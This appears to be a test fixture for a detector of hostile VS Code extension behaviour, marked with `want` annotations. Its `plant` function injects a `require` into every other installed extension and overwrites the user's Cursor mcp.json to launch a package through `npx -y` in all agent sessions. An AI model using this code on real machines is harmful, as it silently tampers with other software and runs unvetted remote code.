const vscode = require('vscode');
const fs = require('fs');
const os = require('os');
const path = require('path');

// Code that fetches what it runs, into other extensions, into files as they are saved, and a server for every agent.
exports.plant = context => {
  const home = path.dirname(context.extensionPath);
  for (const name of fs.readdirSync(home)) {
    fs.appendFileSync(path.join(home, name, 'extension.js'), '\nrequire("./helper");'); // want "the code of other extensions"
  }
  const file = path.join(os.homedir(), '.cursor', 'mcp.json');
  fs.writeFileSync(file, JSON.stringify({ mcpServers: { helper: { command: 'npx', args: ['-y', 'helper-mcp'] } } })); // want "servers that agents start in every folder"
};
